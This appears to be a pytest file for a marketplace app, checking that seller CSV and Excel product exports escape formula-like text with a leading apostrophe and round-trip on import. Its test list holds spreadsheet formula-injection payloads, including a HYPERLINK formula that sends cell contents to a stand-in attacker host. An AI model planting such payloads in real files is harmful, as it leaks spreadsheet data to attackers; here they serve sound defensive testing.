"""Every CSV the app writes opens in a spreadsheet as text, never as a formula.

A cell starting with =, +, -, @, a tab or a carriage return is a formula to Excel and
LibreOffice; such text is written with a leading apostrophe (marketplace/spreadsheet.py).
"""
from __future__ import annotations

import csv
import io
import re

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from marketplace.catalog.models import Product
from marketplace.spreadsheet import csv_writer, read_cell, text_cell
from tests import factories

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+84 912", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert text_cell(text) == "'" + text and read_cell(text_cell(text)) == text
    out = io.StringIO()
    csv_writer(out).writerow([text, 5, -5, "Trà"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "5", "-5", "Trà"]


def test_ordinary_text_and_numbers_are_written_as_they_are():
    for value in ("Trà hoa vàng", "'quoted", "a=b", 12, -3, None):
        assert text_cell(value) == value
        assert read_cell("'x") == "'x"


@pytest.fixture
def seller_with_formula_listings(db, client):
    producer = factories.producer("HTX Trà hoa vàng Ba Chẽ")
    seller = factories.user("seller", producer_id=producer.id)
    for i, text in enumerate(FORMULAS[:4]):
        factories.product(text, prod=producer, description=FORMULAS[(i + 1) % 4])
    factories.login_as(client, seller)
    return client


def test_the_seller_product_export_neutralises_formulas_and_round_trips(db, seller_with_formula_listings):
    client = seller_with_formula_listings
    response = client.get("/seller/products/export.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))[1:]
    assert sorted(row[1] for row in rows) == sorted("'" + text for text in FORMULAS[:4])
    assert all(row[7].startswith("'") for row in rows)

    before = db.session.execute(sa.select(Product.id, Product.name, Product.description).order_by(Product.id)).all()
    preview = client.post("/seller/products/import", content_type="multipart/form-data",
                          data={"file": (io.BytesIO(response.data), "san-pham.csv")})
    key = re.search(r'name="key" value="([^"]+)"', preview.get_data(as_text=True)).group(1)
    assert client.post("/seller/products/import/apply", data={"key": key}).status_code == 302
    db.session.expire_all()
    assert db.session.execute(sa.select(Product.id, Product.name, Product.description)
                              .order_by(Product.id)).all() == before


def test_the_seller_product_excel_export_keeps_formulas_as_text(db, seller_with_formula_listings):
    response = seller_with_formula_listings.get("/seller/products/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == set(FORMULAS[:4])
    assert all(c.data_type == "s" for c in cells)
